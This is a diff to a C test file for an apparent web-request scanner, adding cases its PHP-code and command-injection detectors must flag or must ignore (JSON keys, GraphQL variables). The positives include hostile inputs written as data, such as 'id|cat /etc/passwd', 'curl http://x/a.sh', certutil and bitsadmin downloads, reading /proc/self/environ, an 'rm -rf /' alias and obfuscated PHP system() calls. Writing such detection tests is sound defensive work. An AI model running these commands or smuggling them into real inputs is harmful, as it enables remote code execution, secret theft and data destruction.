@@ -51,11 +51,30 @@ WSG_TEST(code_php_positives)
 		"photo. php", "sess_d8ew88tqmabdcokhumchy8htqm", "allow_url_include=on",
 		"gzuncompress/*x*/()", "foogzinflate()",
 		"define('x', 'sys' . 'tem');(x)/* c */('uname');", "('sys'.'tem')('id')",
-		"array_diff (", "sodium_crypto_aead_chacha20poly1305_ietf_keygen (", NULL,
+		"array_diff (", "sodium_crypto_aead_chacha20poly1305_ietf_keygen (",
+		"a:2:{i:0;s:1:\"a\";i:1;b:1;}", "$f[0]('id')", "$func('ls')", "$ {'fdf'}",
+		"$ {@_.__}(31);", "${$a}", "memory_limit = 512m", "display_errors=on",
+		"user_ini.filename=x", "x.filename", "disable_classes =", NULL,
 	};
 
 	for (int i = 0; pos[i]; i++)
 		CHECK(CODE(pos[i]) == 1, "php positive: %s", pos[i]);
+}
+
+/*
+ * JSON structure and GraphQL text are no PHP: a nested object (":{"), "$name" variables,
+ * snake_case keys that share pieces with php.ini names.
+ */
+WSG_TEST(code_json_negatives)
+{
+	static const char *const neg[] = {
+		"{\"a\":{\"b\":1}}", "a:0:{}", "query ($t: string!, $room: id!)",
+		"user_id=5", "error_code", "display_name=bob", "max_tokens=100", "connection_init",
+		"filename", "the memory_limit  = is low", NULL,
+	};
+
+	for (int i = 0; neg[i]; i++)
+		CHECK(CODE(neg[i]) == 0, "code negative: %s", neg[i]);
 }
 
 WSG_TEST(code_java_node_positives)
@@ -154,7 +173,12 @@ WSG_TEST(cmdi_positives)
 		"certutil -urlcache -split -f http://x/a.exe a.exe",
 		"bitsadmin /transfer job http://x/a.exe c:\\a.exe", "{,ifconfig,eth0}",
 		"{,cd,/etc,}", "{,$\"whoami\",}", "{,/?s?/?i?/c?t,/e?\?/p?\?s?\?,}", "\\ls",
-		"chef report nodes", "time; aria2c http://x/y", ";rsync -av /etc x:", NULL,
+		"chef report nodes", "time; aria2c http://x/y", ";rsync -av /etc x:",
+		"id;", "id|cat /etc/passwd", "tasklist /v", "systeminfo", "uname -a",
+		"net localgroup administrators", "ping -c 5 127.0.0.1", "ping -n 21 127.0.0.1",
+		"curl http://x/a.sh", "alias ls='rm -rf /'", "perf --version",
+		"ansible-playbook x.yml", "dir c:\\", "cat /proc/self/environ",
+		"type c:\\boot.ini", "pip install evil", NULL,
 	};
 
 	for (int i = 0; pos[i]; i++)
@@ -191,6 +215,23 @@ WSG_TEST(cmdi_chat_negatives)
 		"head /etc/passwd shows users", "time; money is tight", ";-) ok",
 		"a hero; more than",
 		"i'm a chef", NULL,
+	};
+
+	for (int i = 0; neg[i]; i++)
+		CHECK(CMDI(neg[i]) == 0, "cmdi negative: %s", neg[i]);
+}
+
+/*
+ * Whole values that are JSON keys or words a command starts like: the quote before "id",
+ * "type", "time", "cat", "net", "dir" is no anchor (it would match JSON keys), so these
+ * never fire.
+ */
+WSG_TEST(cmdi_json_key_values_pass)
+{
+	static const char *const neg[] = {
+		"id", "type", "time", "timestamp", "category", "direction", "network", "current",
+		"cursor", "task", "perpage", "system", "alias", "answer", "pin", "ping", "pipeline",
+		"unauthorized", "id -a", "time who", "net view", "dir", NULL,
 	};
 
 	for (int i = 0; neg[i]; i++)
